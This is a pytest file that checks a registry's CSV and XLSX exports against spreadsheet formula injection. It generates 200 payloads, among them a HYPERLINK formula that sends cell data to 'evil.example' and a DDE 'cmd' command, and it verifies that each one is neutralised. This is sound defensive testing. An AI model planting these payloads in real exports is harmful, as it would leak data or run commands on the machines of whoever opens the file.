"""Nothing that a value says is run by a spreadsheet (threats.md T19): 200 payloads, exported, and opened again."""

import csv
import io
import re
import zipfile
from collections.abc import AsyncIterator
from itertools import product
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from registry.exports.listing import Form, Listing
from registry.exports.write import written
from schemas.cell import cell, uncell

BEFORE = ("", " ", "\t", "\r", "\n", "'", '"', "“", "\u3000", "\ufeff")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=-", "@=")
WHAT = ('HYPERLINK("https://evil.example/?"&A1)', "cmd|' /C calc'!A0")
PAYLOADS = [f"{before}{sign}{what}" for before, sign, what in product(BEFORE, SIGNS, WHAT)]
HARMLESS = ["88.1000.1/A", "'88", "A=1", "２-1", "", "1-2", "铜箔 -1", "—", "\U0001f600"]

# What Excel, LibreOffice and WPS may take for a formula, after what they may take away.
RUNS = re.compile(r"[\s\u3000\ufeff'\"“]*[=+\-@\t\r\n＝＋－＠]")


def listing(texts: list[str]) -> Listing:
    async def chunks() -> AsyncIterator[list[dict[str, str]]]:
        for text in texts:
            yield [{"handle": "88.1000.1/A", "text": text}]

    return Listing("test", ("handle", "text"), chunks())


async def octets(texts: list[str], form: Form, raw: bool = False) -> bytes:
    return b"".join([piece async for piece in written(listing(texts), form, raw)])


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


async def test_no_cell_of_a_table_is_a_formula() -> None:
    table = await octets(PAYLOADS + HARMLESS, "csv")

    assert table.startswith(b"\xef\xbb\xbfhandle,text\r\n")
    assert table.endswith(b"\r\n")
    cells = [row[1] for row in list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))[1:]]
    # An apostrophe in front and then the text, which is what spreadsheets show as text.
    assert cells[: len(PAYLOADS)] == [f"'{text}" for text in PAYLOADS]
    assert cells[len(PAYLOADS) :] == HARMLESS


async def test_a_raw_table_would_run() -> None:
    """The twin: without the protection they stand there as they were sent."""
    table = await octets(PAYLOADS, "csv", raw=True)

    cells = [row[1] for row in list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))[1:]]
    assert cells == PAYLOADS
    assert all(RUNS.match(text) for text in cells)


async def test_no_cell_of_a_workbook_is_a_formula(tmp_path: Path) -> None:
    book = tmp_path / "a.xlsx"
    book.write_bytes(await octets(PAYLOADS + HARMLESS, "xlsx"))

    sheet = CalamineWorkbook.from_path(str(book)).get_sheet_by_index(0)
    rows = sheet.to_python(skip_empty_area=False)
    assert rows[0] == ["handle", "text"]
    told = [row[1] for row in rows[1:]]
    assert told == PAYLOADS + HARMLESS
    with zipfile.ZipFile(book) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in each or b"<f " in each for each in sheets)
        assert not any("externalLink" in name or "ddeLink" in name for name in parts.namelist())
        assert not any(b"<hyperlink" in each for each in sheets)


@pytest.mark.parametrize("text", PAYLOADS + HARMLESS)
def test_what_was_made_harmless_is_read_back(text: str) -> None:
    assert uncell(cell(text)) == text
    assert uncell(cell(cell(text))) == cell(text)
